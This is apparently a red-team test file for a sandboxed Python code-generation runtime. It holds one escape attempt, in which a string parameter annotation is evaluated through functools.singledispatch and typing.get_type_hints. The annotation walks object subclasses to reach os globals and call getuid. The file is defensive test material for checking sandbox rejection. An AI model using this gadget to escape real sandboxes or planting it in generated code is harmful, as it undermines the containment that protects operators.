# Red-team corpus for the sandboxed code-generation runtime.
# Contract: the module defines run(inputs: dict) -> dict. For attack files, a returned
# {'escaped': True, ...} means the attack WORKED (sandbox failure).
# @id: gadget_singledispatch_string_annotation
# @category: escape
# @expect: error   (reject = compile-time refusal or policy error; limit = killed/stopped by a resource limit; error = any exception, fast; ok = must run)
# @layer: both
# @raw_safe: yes   (yes = payload is benign enough to run unsandboxed to validate the snippet)
# @source: functools.singledispatch register() -> typing.get_type_hints() -> eval() of string annotations
# Attempt: Register an implementation whose parameter annotation is a string: register() calls
#   typing.get_type_hints, which eval()s the string in the function's globals without any of the
#   sandbox's rewriting, so dunder attribute access inside it is unguarded.
# Safe sandbox must: not offer singledispatch/register (or evaluate nothing); never return
#   escaped=True.

import functools

SINK = []


@functools.singledispatch
def show(value):
    return "plain"


def run(inputs):
    def probe(value: "[SINK.append([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['getuid']()), int][1]"):
        return "int"

    show.register(probe)
    return {"escaped": True, "evidence": SINK[0]}
